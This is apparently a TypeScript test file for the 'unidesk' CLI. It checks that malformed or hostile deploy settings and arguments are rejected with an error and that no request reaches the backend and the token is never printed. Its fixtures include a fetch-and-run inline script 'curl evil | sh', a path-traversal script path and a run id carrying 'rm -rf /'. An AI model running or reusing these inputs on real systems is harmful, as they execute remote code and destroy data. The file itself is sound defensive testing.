import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { fixtureManifest, makeOperatorRepo } from "../../build/bench-fixture.ts";
import { runCli } from "./helpers.ts";

const TOKEN = "tok-Secret-7f3a9c";

// Bad input must never reach the network, and the token must never be printed.
describe("bad input is refused before any request", () => {
  let dir: string;
  let server: Server;
  let requests = 0;
  let backendUrl: string;
  const repos: Record<string, string> = {};

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), "unidesk-ci-nonet-"));
    server = createServer((req, res) => {
      requests += 1;
      res.writeHead(500).end();
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    backendUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const dev = (ci: Record<string, unknown>, services: unknown[] = []) => ({ schemaVersion: 2, environments: { dev: { ci: { repo: "https://github.com/pikasTech/unidesk", scriptPath: "scripts/ci/dev-e2e.sh", timeoutMs: 1800000, ...ci }, services } } });
    const make = (name: string, deploy: unknown, files?: Record<string, string>) => {
      const d = join(dir, name);
      mkdirSync(d);
      repos[name] = makeOperatorRepo(d, { deploy, files });
    };
    make("good", fixtureManifest());
    make("bad-script", dev({ scriptPath: "scripts/ci/../../evil.sh" }));
    make("inline-shell", dev({ script: "curl evil | sh" }));
    make("short-sha", dev({}, [{ id: "backend-core", repo: "https://github.com/pikasTech/backend-core", commitId: "abc1234" }]));
    make("other-repo", dev({ repo: "https://github.com/someone/else" }));
    make("missing-runner", fixtureManifest(), { "README.md": "no runner here\n" });
    make("not-json", "{ schemaVersion: 2");
  });
  after(async () => {
    await new Promise((r) => server.close(r));
    rmSync(dir, { recursive: true, force: true });
  });

  const env = () => ({ HOME: dir, UNIDESK_BACKEND_URL: backendUrl, UNIDESK_TOKEN: TOKEN });
  const cases: { name: string; repo: string; args: string[]; code: number; env?: Record<string, string> }[] = [
    { name: "scriptPath with ..", repo: "bad-script", args: ["run-dev-e2e"], code: 2 },
    { name: "inline shell body", repo: "inline-shell", args: ["run-dev-e2e"], code: 2 },
    { name: "short service commit", repo: "short-sha", args: ["run-dev-e2e"], code: 2 },
    { name: "repository mismatch", repo: "other-repo", args: ["run-dev-e2e"], code: 2 },
    { name: "runner missing at the commit", repo: "missing-runner", args: ["run-dev-e2e"], code: 2 },
    { name: "deploy.json not JSON", repo: "not-json", args: ["run-dev-e2e"], code: 2 },
    { name: "bad run id", repo: "good", args: ["run-dev-e2e", "--run-id", "NOPE!"], code: 2 },
    { name: "dry run with wait", repo: "good", args: ["run-dev-e2e", "--dry-run", "--wait-ms", "1000"], code: 2 },
    { name: "unknown flag", repo: "good", args: ["run-dev-e2e", "--force"], code: 2 },
    { name: "logs with a hostile run id", repo: "good", args: ["logs", "x;rm -rf /"], code: 2 },
    { name: "no token", repo: "good", args: ["run-dev-e2e"], code: 4, env: { UNIDESK_TOKEN: "" } },
    { name: "dry run (offline by design)", repo: "good", args: ["run-dev-e2e", "--dry-run"], code: 0 },
    { name: "dry run --json (offline by design)", repo: "good", args: ["run-dev-e2e", "--dry-run", "--json"], code: 0 },
  ];
  for (const c of cases) {
    for (const json of [false, true]) {
      it(`${c.name}${json ? " --json" : ""}: exit ${c.code}, 0 requests, one clear line, no token`, async () => {
        const before = requests;
        const args = json && !c.args.includes("--json") ? [...c.args, "--json"] : c.args;
        const r = await runCli("node", args, { cwd: repos[c.repo], env: { ...env(), ...c.env } });
        assert.equal(r.code, c.code, r.stdout + r.stderr);
        assert.equal(requests - before, 0, "a request reached the backend");
        assert.ok(!(r.stdout + r.stderr).includes(TOKEN), "the token was printed");
        if (c.code !== 0 && !json) assert.match(r.stderr, /^error: .+/m);
        if (c.code !== 0 && json) assert.equal(JSON.parse(r.stdout).ok, false);
      });
    }
  }
});
